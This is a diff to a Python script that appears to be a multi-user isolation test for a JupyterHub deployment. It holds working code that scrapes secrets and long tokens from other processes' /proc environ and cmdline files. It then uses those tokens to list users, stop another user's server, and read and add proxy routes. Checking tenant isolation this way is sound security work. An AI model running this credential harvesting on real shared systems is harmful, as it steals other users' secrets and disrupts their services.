@@ -64,41 +64,6 @@ def read_db():
     return con.execute("select name, admin from users").fetchall()
 outcome("query the hub database", read_db)
 
-# ---- tokens in any process A can read (/proc/PID/environ and cmdline)
-tokens = set()
-mine = os.environ.get("JUPYTERHUB_API_TOKEN")
-for pid in filter(str.isdigit, os.listdir("/proc")):
-    for part in ("environ", "cmdline"):
-        try:
-            raw = open(f"/proc/{pid}/{part}", "rb").read().decode(errors="replace")
-        except OSError:
-            continue
-        for item in raw.split("\0"):
-            key, _, value = item.partition("=")
-            if part == "environ" and re.search("TOKEN|SECRET|PASSWORD|KEY", key) and len(value) >= 8:
-                tokens.add(value)
-            tokens.update(re.findall(r"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{32,}(?![A-Za-z0-9_-])", item))
-others = sorted(t for t in tokens if t != mine)
-out["tokens found besides A's own"] = str(len(others))
-
-def use_tokens(candidates):
-    done = []
-    for tok in candidates:
-        status, text = http("GET", T["hub_api"] + "/users", tok)
-        if status == 200 and T["b_name"] in text:
-            done.append("listed every user")
-        status, _ = http("DELETE", T["hub_api"] + f"/users/{T['b_name']}/server", tok)
-        if status in (202, 204):
-            done.append("stopped B's server")
-        status, _ = http("GET", T["proxy_api"] + "/routes", tok)
-        if status == 200:
-            done.append("read the proxy's routes")
-    if not done:
-        raise RuntimeError(f"none of {len(candidates)} tokens was accepted for anyone else")
-    return sorted(set(done))
-outcome("use a token found in /proc", lambda: use_tokens(others))
-outcome("use A's own token for B or the proxy", lambda: use_tokens([mine] if mine else []))
-
 # ---- B's server through the hub's API, the proxy's API, the back door
 outcome("stop B's server (hub API, A's token)",
         lambda: must(*http("DELETE", T["hub_api"] + f"/users/{T['b_name']}/server", mine)))
@@ -158,6 +123,46 @@ def append_config():
         pass                         # opened for writing; nothing written
     return T["hub_config"]
 outcome("open the hub's config for writing", append_config)
+# ---- last: a token that works stops B's server (what the culler's did before)
+# tokens in any process A can read (/proc/PID/environ and cmdline)
+tokens = set()
+mine = os.environ.get("JUPYTERHUB_API_TOKEN")
+for pid in filter(str.isdigit, os.listdir("/proc")):
+    for part in ("environ", "cmdline"):
+        try:
+            raw = open(f"/proc/{pid}/{part}", "rb").read().decode(errors="replace")
+        except OSError:
+            continue
+        for item in raw.split("\0"):
+            key, _, value = item.partition("=")
+            if part == "environ" and re.search("TOKEN|SECRET|PASSWORD|KEY", key) and len(value) >= 8:
+                tokens.add(value)
+            tokens.update(re.findall(r"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{32,}(?![A-Za-z0-9_-])", item))
+others = sorted(t for t in tokens if t != mine)
+out["tokens found besides A's own"] = str(len(others))
+
+def use_tokens(candidates):
+    done = []
+    for tok in candidates:
+        status, text = http("GET", T["hub_api"] + "/users", tok)
+        if status == 200 and T["b_name"] in text:
+            done.append("listed every user")
+        status, _ = http("DELETE", T["hub_api"] + f"/users/{T['b_name']}/server", tok)
+        if status in (202, 204):
+            done.append("stopped B's server")
+        status, _ = http("GET", T["proxy_api"] + "/routes", tok)
+        if status == 200:
+            done.append("read the proxy's routes")
+        status, _ = http("POST", T["proxy_api"] + "/routes/attnlab-attack", tok, {"target": "http://127.0.0.1:9"})
+        if status == 201:
+            done.append("added a proxy route")
+            http("DELETE", T["proxy_api"] + "/routes/attnlab-attack", tok)
+    if not done:
+        raise RuntimeError(f"none of {len(candidates)} tokens was accepted for anyone else")
+    return sorted(set(done))
+outcome("use a token found in /proc", lambda: use_tokens(others))
+outcome("use A's own token for B or the proxy", lambda: use_tokens([mine] if mine else []))
+
 print(json.dumps(out))
 '''
 
